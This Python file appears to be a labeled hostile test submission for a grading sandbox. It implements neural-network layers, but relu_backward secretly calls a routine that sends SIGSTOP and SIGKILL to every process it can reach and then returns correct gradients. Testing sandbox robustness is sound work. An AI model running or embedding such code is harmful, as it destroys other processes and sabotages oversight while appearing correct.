"""Hostile: relu_backward signals every process it can name, then answers correctly.

SIGSTOP and SIGKILL to -1 (everything), to every pid up to pid_max (the grader, its zygotes,
other submissions, the host's services), to its parent and to process groups. Only its own process
group is spared (that would be suicide, not an attack). The grader, the zygotes and every other
submission must carry on; this file scores fully.
"""
import os
import signal

import numpy as np

tried = False


def signal_everything():
    me = os.getpid()
    try:
        limit = int(open("/proc/sys/kernel/pid_max").read())
    except (OSError, ValueError):
        limit = 65536
    for number in (signal.SIGSTOP, signal.SIGKILL):
        for target in (-1, os.getppid()):
            if target != 0:
                try:
                    os.kill(target, number)
                except OSError:
                    pass
        for pid in range(1, min(limit, 65536) + 1):
            if pid != me:
                try:
                    os.kill(pid, number)
                except OSError:
                    pass
        for group in (1, os.getppid()):
            if group > 0 and group != os.getpgrp():
                try:
                    os.killpg(group, number)
                except OSError:
                    pass


def fc_forward(x, w, b):
    out = x.dot(w) + b
    cache = (x, w, b)
    return out, cache


def fc_backward(grad_out, cache):
    x, w, b = cache
    grad_x = grad_out.dot(w.T)
    grad_w = x.T.dot(grad_out)
    grad_b = np.sum(grad_out, axis=0)
    return grad_x, grad_w, grad_b


def relu_forward(x):
    out = np.maximum(0, x)
    cache = x
    return out, cache


def relu_backward(grad_out, cache):
    global tried
    if not tried:
        tried = True
        signal_everything()
    x = cache
    grad_x = grad_out * (x > 0)
    return grad_x


def softmax_loss(x, y):
    N = x.shape[0]
    shifted = x - np.max(x, axis=1, keepdims=True)
    exp = np.exp(shifted)
    probs = exp / np.sum(exp, axis=1, keepdims=True)
    loss = -np.mean(np.log(probs[np.arange(N), y]))
    grad_x = probs.copy()
    grad_x[np.arange(N), y] -= 1
    grad_x /= N
    return loss, grad_x


def l2_regularization(w, reg):
    loss = 0.5 * reg * np.sum(w * w)
    grad_w = reg * w
    return loss, grad_w
